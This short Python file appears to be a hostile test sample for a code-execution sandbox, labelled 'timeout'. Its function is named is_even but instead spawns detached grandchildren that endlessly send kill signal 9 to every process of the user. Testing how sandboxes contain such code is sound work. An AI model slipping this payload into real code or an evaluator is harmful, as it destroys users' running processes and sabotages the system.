"""Leaves children that do nothing but kill every process of their user, the one sent to kill them too."""
# timeout

import posix


def is_even(n):
    for _ in range(2):
        if posix.fork() == 0:
            posix.setsid()
            if posix.fork() == 0:
                while True:
                    try:
                        posix.kill(-1, 9)
                    except OSError:
                        pass
            posix._exit(0)
    return None
